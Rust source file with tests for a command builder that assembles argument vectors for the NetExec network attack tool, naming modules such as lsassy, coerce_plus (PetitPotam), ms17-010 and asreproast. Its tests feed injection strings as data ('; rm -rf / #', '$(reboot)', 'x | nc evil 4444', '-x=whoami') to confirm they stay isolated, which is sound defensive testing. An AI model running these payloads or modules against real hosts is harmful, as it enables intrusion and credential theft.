//! # Command Builder
//!
//! Turns a decoded contract, the resolved targets, a credential set and the
//! free-form field values into the argument vector of the enumeration tool.
//!
//! Every user-controlled value is pushed as its own element and is never
//! concatenated with anything else, so separator characters inside a value
//! reach the tool verbatim and cannot split or merge arguments. Module options
//! are the one place where a key and its value share an element (`KEY=VALUE`),
//! and the key always comes from the module's schema or the user's own token.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use nxpipe_common::config::Config;
use nxpipe_common::credential::Credential;
use nxpipe_common::{PipelineError, PipelineResult, debug, warn};
use nxpipe_protocols::contract::NAMESPACE;
use nxpipe_protocols::module::{self, FALLBACK_FIELD, ModuleSpec};
use nxpipe_protocols::protocol::{self, PORT_FIELD, PORT_FLAG, ProtocolSpec};
use nxpipe_protocols::{ContractIdentity, Family};

pub const MODULE_FLAG: &str = "-M";
pub const MODULE_OPTION_FLAG: &str = "-o";
pub const OUTPUT_FILE_EXTENSION: &str = "txt";

const REDACTED: &str = "********";

/// Everything the builder needs for one invocation.
#[derive(Debug, Clone, Copy)]
pub struct CommandRequest<'a> {
    pub contract: &'a ContractIdentity,
    pub targets: &'a [String],
    pub credential: &'a Credential,
    pub fields: &'a BTreeMap<String, String>,
}

/// A ready-to-run argument vector.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandSpec {
    pub argv: Vec<String>,
    /// Where a file-producing option writes its results.
    pub output_file: Option<PathBuf>,
    /// Indices of `argv` holding secrets.
    secrets: Vec<usize>,
}

impl CommandSpec {
    /// The argument vector with secrets masked, for display and logs.
    pub fn redacted(&self) -> Vec<String> {
        self.argv
            .iter()
            .enumerate()
            .map(|(i, arg)| {
                if self.secrets.contains(&i) {
                    REDACTED.to_string()
                } else {
                    arg.clone()
                }
            })
            .collect()
    }
}

pub struct CommandBuilder<'a> {
    tool: &'a str,
    temp_dir: &'a Path,
}

impl<'a> CommandBuilder<'a> {
    pub fn new(config: &'a Config) -> Self {
        Self {
            tool: &config.tool,
            temp_dir: &config.temp_dir,
        }
    }

    /// Builds the argument vector. Fails before anything is run.
    pub fn build(&self, request: CommandRequest<'_>) -> PipelineResult<CommandSpec> {
        if request.targets.is_empty() {
            return Err(PipelineError::Validation(
                "no targets to run against".to_string(),
            ));
        }
        let protocol = protocol::lookup(&request.contract.protocol)?;

        let mut argv = Argv::default();
        argv.push(self.tool);
        argv.push(protocol.name);
        for target in request.targets {
            argv.push(target);
        }

        push_credentials(&mut argv, protocol, request.credential);
        push_extras(&mut argv, protocol, request.fields)?;

        let mut output_file = None;
        match request.contract.family {
            Family::Base => {}
            Family::Option => {
                let id = identifier(request.contract)?;
                let option = protocol.option(id)?;
                argv.push(option.flag);
                if option.output_file {
                    let path = self.output_path(option.id);
                    argv.push(path.to_string_lossy());
                    output_file = Some(path);
                }
            }
            Family::Module => {
                let name = identifier(request.contract)?;
                let module = protocol.module(name)?;
                argv.push(MODULE_FLAG);
                argv.push(module.name);
                let pairs = module_options(module, request.fields)?;
                if !pairs.is_empty() {
                    argv.push(MODULE_OPTION_FLAG);
                    for pair in pairs {
                        argv.push(pair);
                    }
                }
            }
        }

        debug!(contract = %request.contract, args = argv.args.len(), "command built");

        Ok(CommandSpec {
            argv: argv.args,
            output_file,
            secrets: argv.secrets,
        })
    }

    /// `<temp>/netexec_<option>_<16 hex chars>.txt`
    fn output_path(&self, option: &str) -> PathBuf {
        let token: u64 = rand::random();
        self.temp_dir
            .join(format!("{NAMESPACE}_{option}_{token:016x}.{OUTPUT_FILE_EXTENSION}"))
    }
}

#[derive(Default)]
struct Argv {
    args: Vec<String>,
    secrets: Vec<usize>,
}

impl Argv {
    fn push(&mut self, arg: impl Into<String>) {
        self.args.push(arg.into());
    }

    fn push_secret(&mut self, arg: impl Into<String>) {
        self.secrets.push(self.args.len());
        self.push(arg);
    }
}

fn identifier(contract: &ContractIdentity) -> PipelineResult<&str> {
    contract
        .identifier()
        .ok_or_else(|| PipelineError::format(contract.encode(), "missing identifier"))
}

fn field<'f>(fields: &'f BTreeMap<String, String>, name: &str) -> Option<&'f str> {
    fields
        .get(name)
        .map(|value| value.trim())
        .filter(|value| !value.is_empty())
}

fn push_credentials(argv: &mut Argv, protocol: &ProtocolSpec, credential: &Credential) {
    for (field, value) in credential.present() {
        if !protocol.accepts(field) {
            warn!(
                "{} does not take a {}, ignoring it",
                protocol.name,
                field.name()
            );
            continue;
        }
        argv.push(protocol::credential_flag(field));
        if field.is_secret() {
            argv.push_secret(value);
        } else {
            argv.push(value);
        }
    }
}

fn push_extras(
    argv: &mut Argv,
    protocol: &ProtocolSpec,
    fields: &BTreeMap<String, String>,
) -> PipelineResult<()> {
    for extra in protocol.extras {
        if let Some(value) = fields.get(extra.field).filter(|v| !v.trim().is_empty()) {
            argv.push(extra.flag);
            argv.push(value.as_str());
        }
    }

    if let Some(port) = field(fields, PORT_FIELD) {
        match port.parse::<u16>() {
            Ok(number) if number > 0 => {
                argv.push(PORT_FLAG);
                argv.push(number.to_string());
            }
            _ => {
                return Err(PipelineError::Validation(format!(
                    "invalid port '{port}', expected 1-65535"
                )));
            }
        }
    }
    Ok(())
}

/// Collects `KEY=VALUE` pairs: schema options from `mo_<key>_<OPTION>`
/// fields in field order, then the fallback field's pairs in text order.
fn module_options(
    module: &ModuleSpec,
    fields: &BTreeMap<String, String>,
) -> PipelineResult<Vec<String>> {
    let prefix = module.field_prefix();
    let longer: Vec<String> = module::MODULES
        .iter()
        .map(ModuleSpec::field_prefix)
        .filter(|other| other.len() > prefix.len() && other.starts_with(&prefix))
        .collect();

    let mut pairs = Vec::new();
    let mut given = Vec::new();

    for (name, value) in fields {
        let Some(option) = name.strip_prefix(&prefix) else {
            continue;
        };
        if longer.iter().any(|other| name.starts_with(other.as_str())) {
            continue;
        }
        let option = module.option(option)?;
        let value = value.trim();
        if value.is_empty() {
            continue;
        }
        pairs.push(format!("{}={value}", option.name));
        given.push(option.name.to_string());
    }

    if let Some(fallback) = field(fields, FALLBACK_FIELD) {
        for token in fallback.split_whitespace() {
            let Some((key, _)) = token.split_once('=').filter(|(key, _)| is_option_key(key)) else {
                return Err(PipelineError::Validation(format!(
                    "module option '{token}' is not KEY=VALUE"
                )));
            };
            given.push(key.to_string());
            pairs.push(token.to_string());
        }
    }

    for required in module.required_options() {
        if !given.iter().any(|name| name == required.name) {
            return Err(PipelineError::Validation(format!(
                "module {} requires option {}",
                module.name, required.name
            )));
        }
    }

    Ok(pairs)
}

/// `[A-Za-z0-9_]+`, the shape of every module option name. Anything else
/// could be read as a tool flag.
fn is_option_key(key: &str) -> bool {
    !key.is_empty() && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config() -> Config {
        Config {
            tool: "nxc".to_string(),
            temp_dir: PathBuf::from("/tmp"),
            ..Config::default()
        }
    }

    fn targets(list: &[&str]) -> Vec<String> {
        list.iter().map(|t| t.to_string()).collect()
    }

    fn fields(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
        pairs
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect()
    }

    fn build(
        contract: &str,
        targets: &[String],
        credential: &Credential,
        fields: &BTreeMap<String, String>,
    ) -> PipelineResult<CommandSpec> {
        let config = config();
        let contract = ContractIdentity::decode(contract).unwrap();
        CommandBuilder::new(&config).build(CommandRequest {
            contract: &contract,
            targets,
            credential,
            fields,
        })
    }

    fn admin() -> Credential {
        Credential {
            username: Some("administrator".to_string()),
            password: Some("Passw0rd!".to_string()),
            domain: Some("corp.local".to_string()),
            ..Credential::default()
        }
    }

    #[test]
    fn base_command_prefix_and_credentials() {
        let spec = build(
            "netexec_smb",
            &targets(&["10.0.0.5", "dc01.corp.local"]),
            &admin(),
            &BTreeMap::new(),
        )
        .unwrap();
        assert_eq!(
            spec.argv,
            vec![
                "nxc", "smb", "10.0.0.5", "dc01.corp.local", "-u", "administrator", "-p",
                "Passw0rd!", "-d", "corp.local"
            ]
        );
        assert_eq!(spec.output_file, None);
    }

    #[test]
    fn empty_targets_fail_before_lookup() {
        let err = build("netexec_gopher", &[], &admin(), &BTreeMap::new()).unwrap_err();
        assert!(matches!(err, PipelineError::Validation(_)));

        let err = build("netexec_gopher", &targets(&["x"]), &admin(), &BTreeMap::new()).unwrap_err();
        assert!(matches!(err, PipelineError::Lookup { kind: "protocol", .. }));
    }

    #[test]
    fn empty_and_unaccepted_credentials_are_skipped() {
        let credential = Credential {
            username: Some("root".to_string()),
            password: Some(String::new()),
            hash: Some("31d6cfe0d16ae931b73c59d7e0c089c0".to_string()),
            key_file: Some("/home/me/.ssh/id_ed25519".to_string()),
            ..Credential::default()
        };
        let spec = build("netexec_ssh", &targets(&["10.0.0.9"]), &credential, &BTreeMap::new()).unwrap();
        assert_eq!(
            spec.argv,
            vec!["nxc", "ssh", "10.0.0.9", "-u", "root", "--key-file", "/home/me/.ssh/id_ed25519"]
        );
    }

    #[test]
    fn secrets_are_redacted() {
        let spec = build("netexec_smb", &targets(&["10.0.0.5"]), &admin(), &BTreeMap::new()).unwrap();
        let shown = spec.redacted();
        assert_eq!(shown[6], REDACTED);
        assert_eq!(shown[4], "administrator");
        assert!(!shown.iter().any(|a| a == "Passw0rd!"));
    }

    #[test]
    fn extras_and_port() {
        let spec = build(
            "netexec_mssql",
            &targets(&["10.0.0.7"]),
            &Credential::default(),
            &fields(&[("query", "SELECT name FROM sys.databases; --"), ("port", "14330")]),
        )
        .unwrap();
        assert_eq!(
            spec.argv[3..],
            ["-q", "SELECT name FROM sys.databases; --", "--port", "14330"]
        );

        for bad in ["0", "65536", "http"] {
            let err = build(
                "netexec_smb",
                &targets(&["10.0.0.5"]),
                &Credential::default(),
                &fields(&[("port", bad)]),
            )
            .unwrap_err();
            assert!(matches!(err, PipelineError::Validation(_)), "port {bad}");
        }
    }

    #[test]
    fn option_flag() {
        let spec = build(
            "netexec_smb_opt_local_auth",
            &targets(&["10.0.0.5"]),
            &Credential::default(),
            &BTreeMap::new(),
        )
        .unwrap();
        assert_eq!(spec.argv.last().map(String::as_str), Some("--local-auth"));
        assert_eq!(spec.output_file, None);
    }

    #[test]
    fn file_producing_option_gets_a_unique_path() {
        let run = || {
            build(
                "netexec_ldap_opt_asreproast",
                &targets(&["10.0.0.5"]),
                &Credential::default(),
                &BTreeMap::new(),
            )
            .unwrap()
        };
        let first = run();
        let second = run();

        let path = first.output_file.clone().unwrap();
        let name = path.file_name().unwrap().to_string_lossy().to_string();
        assert!(path.starts_with("/tmp"));
        assert!(name.starts_with("netexec_asreproast_"));
        assert!(name.ends_with(".txt"));
        assert_eq!(name.len(), "netexec_asreproast_".len() + 16 + ".txt".len());

        let n = first.argv.len();
        assert_eq!(first.argv[n - 2], "--asreproast");
        assert_eq!(first.argv[n - 1], path.to_string_lossy());
        assert_eq!(first.argv.iter().filter(|a| *a == "--asreproast").count(), 1);
        assert_ne!(first.output_file, second.output_file);
    }

    #[test]
    fn unknown_option_or_module() {
        let none = BTreeMap::new();
        let err = build("netexec_ftp_opt_sam", &targets(&["x"]), &admin(), &none).unwrap_err();
        assert!(matches!(err, PipelineError::Lookup { .. }));

        let err = build("netexec_ldap_mod_zerologon", &targets(&["x"]), &admin(), &none).unwrap_err();
        assert!(matches!(err, PipelineError::Lookup { kind: "module", .. }));
    }

    #[test]
    fn module_options_from_fields_and_fallback() {
        let spec = build(
            "netexec_smb_mod_spider_plus",
            &targets(&["10.0.0.5"]),
            &Credential::default(),
            &fields(&[
                ("mo_spider_plus_EXCLUDE_DIR", "IPC$,print$"),
                ("mo_spider_plus_MAX_FILE_SIZE", "  "),
                ("module_options", "DOWNLOAD_FLAG=True  OUTPUT_FOLDER=/tmp/spider"),
            ]),
        )
        .unwrap();
        assert_eq!(
            spec.argv[3..],
            [
                "-M",
                "spider_plus",
                "-o",
                "EXCLUDE_DIR=IPC$,print$",
                "DOWNLOAD_FLAG=True",
                "OUTPUT_FOLDER=/tmp/spider"
            ]
        );
    }

    #[test]
    fn module_without_options_has_no_option_flag() {
        let spec = build(
            "netexec_smb_mod_ms17-010",
            &targets(&["10.0.0.5"]),
            &Credential::default(),
            &BTreeMap::new(),
        )
        .unwrap();
        assert_eq!(spec.argv[3..], ["-M", "ms17-010"]);
    }

    #[test]
    fn module_option_errors() {
        let target = targets(&["10.0.0.5"]);
        let none = Credential::default();

        let err = build(
            "netexec_smb_mod_coerce_plus",
            &target,
            &none,
            &fields(&[("mo_coerce_plus_METHOD", "PetitPotam")]),
        )
        .unwrap_err();
        assert!(matches!(err, PipelineError::Validation(_)));

        let ok = build(
            "netexec_smb_mod_coerce_plus",
            &target,
            &none,
            &fields(&[("module_options", "LISTENER=10.0.0.99")]),
        );
        assert!(ok.is_ok());

        let err = build(
            "netexec_smb_mod_coerce_plus",
            &target,
            &none,
            &fields(&[("mo_coerce_plus_LISTENER", "10.0.0.99"), ("mo_coerce_plus_BOGUS", "1")]),
        )
        .unwrap_err();
        assert!(matches!(err, PipelineError::Lookup { .. }));

        let err = build(
            "netexec_smb_mod_lsassy",
            &target,
            &none,
            &fields(&[("module_options", "METHOD")]),
        )
        .unwrap_err();
        assert!(matches!(err, PipelineError::Validation(_)));

        for smuggled in ["--exec-method=x -x=whoami", "-x=whoami", "METHOD=x =y", "A B=1"] {
            let err = build(
                "netexec_smb_mod_lsassy",
                &target,
                &none,
                &fields(&[("module_options", smuggled)]),
            )
            .unwrap_err();
            assert!(matches!(err, PipelineError::Validation(_)), "{smuggled}");
        }
    }

    #[test]
    fn other_modules_fields_are_ignored() {
        let spec = build(
            "netexec_ldap_mod_laps",
            &targets(&["10.0.0.5"]),
            &Credential::default(),
            &fields(&[("mo_adcs_SERVER", "ca01"), ("mo_laps_COMPUTER", "WS01")]),
        )
        .unwrap();
        assert_eq!(spec.argv[3..], ["-M", "laps", "-o", "COMPUTER=WS01"]);
    }

    #[test]
    fn hostile_values_stay_isolated() {
        let nasty = [
            "; rm -rf / #",
            "a && b",
            "$(reboot)",
            "`id`",
            "x | nc evil 4444",
            "line\nbreak",
            "quote\"s and 'single'",
            "-u injected",
            "   padded   ",
        ];
        for value in nasty {
            let credential = Credential {
                username: Some(value.to_string()),
                password: Some(value.to_string()),
                domain: Some(value.to_string()),
                ..Credential::default()
            };
            let target = vec![value.to_string(), "10.0.0.5".to_string()];
            let spec = build(
                "netexec_smb",
                &target,
                &credential,
                &fields(&[("command", value)]),
            )
            .unwrap();

            let occurrences: Vec<usize> = spec
                .argv
                .iter()
                .enumerate()
                .filter(|(_, arg)| arg.contains(value))
                .map(|(i, _)| i)
                .collect();
            assert_eq!(occurrences, vec![2, 5, 7, 9, 11], "{value:?}");
            for i in occurrences {
                assert_eq!(spec.argv[i], value, "merged token for {value:?}");
            }
        }
    }
}
